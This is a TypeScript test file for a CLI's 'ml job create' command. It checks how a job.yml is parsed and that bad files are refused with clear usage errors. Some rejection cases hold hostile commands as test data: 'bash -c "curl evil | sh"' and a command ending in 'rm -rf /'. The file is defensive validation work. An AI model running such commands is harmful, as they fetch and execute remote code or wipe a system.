/**
 * `tessera ml job create --file job.yml`: the file is read as az ml reads a command job,
 * and every mistake in it is a usage error (exit status 2) naming the file and what is
 * wrong, before anything is asked of a server: unknown keys, inputs and outputs, a
 * command that is not one script, a missing code folder or script, bad YAML, a missing file.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, describe, test } from 'node:test';
import { readJobFile } from '../src/jobFile.js';
import { removeTempDirs, tempDir } from './helpers/tempDirs.js';
import { tessera } from './helpers/cli.js';

after(() => removeTempDirs());

/** A folder with src/train.py and a job.yml of `yaml`. */
function jobDir(yaml: string): { dir: string; file: string } {
  const dir = tempDir('job');
  fs.mkdirSync(path.join(dir, 'src'));
  fs.writeFileSync(path.join(dir, 'src', 'train.py'), 'print(1)\n');
  fs.writeFileSync(path.join(dir, 'job.yml'), yaml);
  return { dir, file: path.join(dir, 'job.yml') };
}

const GOOD = `$schema: https://azuremlschemas.azureedge.net/latest/commandJob.schema.json
type: command
command: python train.py --epochs 3
code: ./src
environment: azureml:python-3@latest
compute: azureml:cpu
experiment_name: mnist
display_name: first try
description: a test
tags: {team: ml, n: 3}
environment_variables:
  EPOCHS: 3
  DEBUG: true
limits:
  timeout: 600
`;

describe('job.yml as az ml reads it', () => {
  test('a command job: azureml: prefixes and @latest stripped, scalars as strings, code relative to the file', () => {
    const { dir, file } = jobDir(GOOD);
    assert.deepEqual(readJobFile(file), {
      command: 'python train.py --epochs 3',
      code: path.join(dir, 'src'),
      compute: 'cpu',
      experimentName: 'mnist',
      environment: 'python-3',
      displayName: 'first try',
      description: 'a test',
      tags: { team: 'ml', n: '3' },
      environmentVariables: { EPOCHS: '3', DEBUG: 'true' },
      timeoutSec: 600,
      name: undefined,
    });
  });

  test('an environment version is stripped too; the experiment defaults to the folder name', () => {
    const { dir, file } = jobDir('command: node train.mjs\ncode: src\ncompute: cpu\nenvironment: azureml:node-20:4\n');
    fs.writeFileSync(path.join(dir, 'src', 'train.mjs'), '');
    const spec = readJobFile(file);
    assert.equal(spec.environment, 'node-20');
    assert.equal(spec.experimentName, path.basename(dir));
  });
});

describe('tessera ml job create refuses a bad job.yml clearly, before any request', () => {
  const cases: [string, string, RegExp][] = [
    ['unknown keys, named (markup and escapes shown escaped)', `${GOOD}resources: {instance_count: 2}\n"<b>\\x1b[2J": 1\n`, /unknown keys "resources", "<b>\\u001b\[2J" \(a command job takes \$schema, type/],
    ['inputs', `${GOOD}inputs: {lr: 0.1}\n`, /'inputs' is not supported yet/],
    ['inputs and outputs', `${GOOD}inputs: {}\noutputs: {}\n`, /'inputs' and 'outputs' are not supported yet/],
    ['a shell command', GOOD.replace('python train.py --epochs 3', 'bash -c "curl evil | sh"'), /'command' must be 'python <script.py> \[args…\]' or 'node <script.mjs\|.js\|.cjs> \[args…\]'/],
    ['a python script that is not .py', GOOD.replace('train.py', 'train.sh'), /'command' must be 'python <script.py>/],
    ['several lines', GOOD.replace('command: python train.py --epochs 3', 'command: |\n  python train.py\n  rm -rf /'), /'command' must be one line/],
    ['an input reference', GOOD.replace('--epochs 3', '--lr ${{inputs.lr}}'), /\$\{\{…\}\} \(inputs and outputs\), which are not supported yet/],
    ['an unclosed quote', GOOD.replace('--epochs 3', "--name 'x"), /'command': The command has an unclosed single quote/],
    ['no command', GOOD.replace('command: python train.py --epochs 3\n', ''), /'command' is missing/],
    ['no compute', GOOD.replace('compute: azureml:cpu\n', ''), /'compute' is missing/],
    ['another job type', GOOD.replace('type: command', 'type: sweep'), /'type' must be 'command', not "sweep"/],
    ['a missing code folder', GOOD.replace('code: ./src', 'code: ./nope'), /'code': the folder .*nope does not exist/],
    ['no code', GOOD.replace('code: ./src\n', ''), /'code' is missing: give the folder that holds "train.py"/],
    ['a script outside the code folder', GOOD.replace('train.py', '../job.yml.py'), /not a file in the code folder/],
    ['a missing script', GOOD.replace('train.py', 'other.py'), /the command runs "other.py", which is not a file in the code folder/],
    ['a remote code asset', GOOD.replace('code: ./src', 'code: azureml:code:1'), /'code' must be a local folder/],
    ['an inline environment', GOOD.replace('environment: azureml:python-3@latest', 'environment: {image: python:3.11}'), /'environment' must be the name of an environment/],
    ['an unknown limit', GOOD.replace('timeout: 600', 'timeout: 600\n  max_trials: 3'), /unknown key "limits.max_trials"/],
    ['a bad timeout', GOOD.replace('timeout: 600', 'timeout: soon'), /'limits.timeout' must be a whole number of seconds/],
    ['a bad experiment name', GOOD.replace('experiment_name: mnist', 'experiment_name: "<script>"'), /'experiment_name' "<script>" is invalid/],
    ['tags that are not a map', GOOD.replace('tags: {team: ml, n: 3}', 'tags: [a, b]'), /'tags' must be a map/],
    ['duplicate keys', `${GOOD}compute: other\n`, /not valid YAML \(line \d+, column \d+\): Map keys must be unique/],
    ['a list, not a map', '- a\n- b\n', /must hold a map of keys/],
    ['YAML that does not parse', 'command: [python\n', /not valid YAML \(line 2, column 1\)/],
  ];
  for (const [what, yaml, message] of cases) {
    test(what, async () => {
      const { dir } = jobDir(yaml);
      const result = await tessera(['ml', 'job', 'create', '--file', 'job.yml'], { TESSERA_CONFIG_DIR: tempDir('config') }, { cwd: dir });
      assert.equal(result.code, 2, result.stderr);
      assert.match(result.stderr, /^ERROR: --file job\.yml: /);
      assert.match(result.stderr, message);
      assert.ok(!result.stderr.includes('    at '), 'no stack trace');
      assert.equal(result.stdout, '');
    });
  }

  test('a missing file, a folder, and an oversized file', async () => {
    const dir = tempDir('job');
    fs.writeFileSync(path.join(dir, 'big.yml'), `command: python train.py\n#${'x'.repeat(1024 * 1024)}\n`);
    for (const [file, message] of [
      ['missing.yml', /--file missing\.yml: cannot read it \(ENOENT\)/],
      ['.', /--file \.: it is not a file/],
      ['big.yml', /larger than 1024 KiB/],
    ] as const) {
      const result = await tessera(['ml', 'job', 'create', '-f', file], { TESSERA_CONFIG_DIR: tempDir('config') }, { cwd: dir });
      assert.equal(result.code, 2, result.stderr);
      assert.match(result.stderr, message);
    }
  });
});
